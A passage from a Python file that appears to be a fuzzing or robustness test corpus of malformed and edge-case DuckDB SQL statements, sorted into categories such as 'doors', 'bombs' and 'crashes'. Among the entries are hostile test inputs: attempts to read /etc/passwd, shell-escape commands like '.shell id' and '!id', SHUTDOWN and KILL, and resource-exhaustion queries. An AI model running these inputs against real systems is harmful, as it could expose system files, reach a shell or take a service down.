        "SELECT unpivot_list(1, 'x')", "SELECT unbin('x')", "SELECT bin(NULL)", "SELECT date_part(['x'], now())", "SELECT date_part([], now())",
        "SELECT prefix(NULL, NULL)", "SELECT suffix()", "SELECT contains([1], 'x')", "SELECT list_has_any([NULL], [NULL])",
        "SELECT getvariable(NULL)", "SELECT getvariable(1)", "SELECT current_setting(NULL)", "SELECT current_setting(repeat('x', 100000))",
        "SELECT is_histogram_other_bin(NULL)", "SELECT histogram(1, [])", "SELECT histogram(1, NULL)", "SELECT histogram_exact(1, [NULL])",
        "SELECT * FROM histogram_values(python.steps, step)", "SELECT * FROM histogram(nothing, x)", "SELECT equi_width_bins(1, 2, 0, true)",
        "SELECT equi_width_bins(0, 9223372036854775807, 100000000, true)", "SELECT equi_width_bins(NULL, NULL, NULL, NULL)",
        "SELECT equi_width_bins(-9223372036854775808, 9223372036854775807, 10, false)", "SELECT approx_top_k(1, 0)", "SELECT approx_top_k(1, -1)",
        "SELECT approx_quantile(1, [])", "SELECT quantile_disc(1, [])", "SELECT quantile_disc(NULL, [NULL])", "SELECT reservoir_quantile(1, 0.5, -1)",
        "SELECT bitstring_agg(1, 0, 9223372036854775807)", "SELECT bitstring_agg(1, 2, 1)", "SELECT bitstring_agg(1, -170141183460469231731687303715884105728, 170141183460469231731687303715884105727)",
        "SELECT min(1, 0)", "SELECT max(1, -1)", "SELECT arg_min(1, 2, NULL)", "SELECT arg_max(NULL, NULL, 3)", "SELECT string_agg('a', NULL)",
        "SELECT string_agg(DISTINCT 'a', 'b' ORDER BY 1, 2)", "SELECT list(1 ORDER BY NULL)", "SELECT first(NULL ORDER BY ALL)",
        "SELECT any_value(DISTINCT NULL) OVER (PARTITION BY NULL)", "SELECT fill(1) OVER (ORDER BY 1)", "SELECT fill(NULL) OVER (ORDER BY NULL)",
        "SELECT nth_value(1, NULL) OVER ()", "SELECT lead(1, NULL, 'x') OVER ()", "SELECT cume_dist(ORDER BY 1) OVER ()", "SELECT rank(DISTINCT) OVER ()",
        "SELECT row_number() OVER (ORDER BY row_number() OVER ())", "SELECT sum(sum(1)) OVER () OVER ()", "SELECT 1 QUALIFY row_number() OVER () = 1",
        "SELECT count(*) OVER (ROWS BETWEEN NULL PRECEDING AND NULL FOLLOWING) FROM range(9)", "SELECT * FROM range(3) QUALIFY NULL",
        "SELECT (SELECT range FROM range(3))", "SELECT (SELECT a.range FROM range(2) b) FROM range(2) a", "SELECT * FROM range(3) t, LATERAL (SELECT t.range, * FROM range(t.range))",
        "SELECT EXISTS (SELECT * FROM range(a.range) b WHERE a.range = b.range) FROM range(9) a", "SELECT ANY (SELECT 1)", "SELECT 1 = ALL (SELECT NULL)",
        "SELECT * FROM (SELECT 1) t(a, b, c)", "SELECT t FROM (SELECT 1) t", "SELECT t.* FROM (SELECT 1) t(t)", "SELECT * FROM range(1) a(a) JOIN range(1) b(a) USING (a) JOIN range(1) c(a) USING (a)",
        "SELECT * FROM range(1) FULL JOIN range(1) ON false FULL JOIN range(1) ON NULL", "SELECT * FROM test_all_types() ORDER BY ALL",
        "SELECT to_json(COLUMNS(*)) FROM test_all_types()", "SELECT hash(COLUMNS(*)) FROM test_all_types()", "SELECT COLUMNS(*)::VARCHAR FROM test_all_types()",
        "SELECT min(COLUMNS(*)), max(COLUMNS(*)) FROM test_all_types()", "SUMMARIZE FROM test_all_types()", "SELECT list(COLUMNS(*)) FROM test_all_types()",
        "SELECT * FROM test_vector_types(NULL::INT[], NULL::STRUCT(a INT))", "SELECT variant_extract(1::VARIANT, 'a')", "SELECT 1::VARIANT", "SELECT {'a': 1}::VARIANT",
        "SELECT variant_normalize(NULL::VARIANT)", "SELECT [1]::VARIANT::INT[]", "SELECT variant_typeof({'a': [1]}::VARIANT)", "SELECT NULL::GEOMETRY", "SELECT 'x'::GEOMETRY",
        "SELECT parquet_bloom_probe('x', 'y', 1)", "SELECT * FROM parquet_bloom_probe('/etc/passwd', 'y', 1)", "SELECT * FROM parquet_file_metadata('/dev/zero')",
        "SELECT * FROM read_parquet([])", "SELECT * FROM read_parquet(NULL)", "SELECT * FROM read_csv(NULL)", "SELECT * FROM read_json([NULL])", "SELECT * FROM glob(NULL)",
        "SELECT * FROM query(NULL)", "SELECT * FROM query('')", "SELECT * FROM query('SELECT 1; SELECT 2')", "SELECT * FROM query(repeat('(', 10000))", "SELECT * FROM query_table(NULL)",
        "SELECT * FROM query_table(['python.steps', NULL])", "SELECT * FROM query_table([])", "SELECT * FROM query('FROM query(''FROM query(''''SELECT 1'''')'')')",
        "SELECT * FROM unnest([1]) WITH ORDINALITY", "SELECT * FROM repeat(1, -1)", "SELECT * FROM repeat(NULL, NULL)", "SELECT * FROM repeat_row()", "SELECT * FROM summary(1)",
        "SELECT * FROM checkpoint()", "SELECT * FROM force_checkpoint('x')", "SELECT * FROM pragma_collations()", "SELECT * FROM pragma_user_agent()", "SELECT * FROM pragma_metadata_info('x')",
        "SELECT * FROM pragma_storage_info('nothing')", "SELECT * FROM pragma_show('python.steps')", "SELECT * FROM duckdb_dependencies()", "SELECT * FROM duckdb_log_contexts()",
        "SELECT * FROM json_each(NULL)", "SELECT * FROM json_tree('[[[[1]]]]')", "SELECT * FROM json_each(repeat('[', 100000))", "SELECT * FROM icu_calendar_names()", "SELECT icu_sort_key('a', 'x')",
        "SELECT icu_collate_de('a')", "SELECT * FROM pg_timezone_names() ORDER BY ALL", "SELECT * FROM sql_auto_complete(repeat('(', 1000))", "SELECT * FROM get_block_size()",
        "FROM (FROM (FROM python.steps)) SELECT", "FROM", "SELECT", "SELECT FROM", "WITH x AS () SELECT 1", "WITH x(a, b) AS (SELECT 1) SELECT * FROM x", "VALUES", "VALUES ()", "TABLE", "TABLE nothing",
        "EXPLAIN", "EXPLAIN EXPLAIN SELECT 1", "EXPLAIN (FORMAT json) SELECT 1", "EXPLAIN (FORMAT graphviz, ANALYZE) SELECT 1", "EXPLAIN ANALYZE SELECT error('x')", "DESCRIBE", "DESCRIBE DESCRIBE SELECT 1",
        "SUMMARIZE", "PIVOT x", "UNPIVOT x ON *", "SELECT * FROM (DESCRIBE python.steps)", "SELECT * FROM (SHOW TABLES)", "SELECT * FROM (SUMMARIZE python.steps)", "LISTEN x", "LOCK TABLE python.steps",
        "GRANT ALL ON python.steps TO x", "KILL 1", "SHUTDOWN", "HELP", ".shell id", ".read /etc/passwd", "\\! id", "!id", "CALL nothing()", "DO $$ BEGIN END $$", "DECLARE c CURSOR FOR SELECT 1", "FETCH c",
    ]


CORPUS: dict[str, list[str]] = {
    "files": _files(), "writes": _writes(), "settings": _settings(), "doors": _doors(), "several": _several(),
    "bombs": _bombs(), "recursive": _recursive(), "deep": _deep(), "types": _types(), "odd text": _odd_text(),
    "crashes": _crashes(),
}


def everything() -> list[tuple[str, str]]:
    """(category, statement) of the whole corpus."""
    return [(category, sql) for category, statements in CORPUS.items() for sql in statements]


def sample(every: int) -> list[tuple[str, str]]:
    """Every so many statements of each category, the first included."""
    return [(category, sql) for category, statements in CORPUS.items() for sql in statements[::every]]
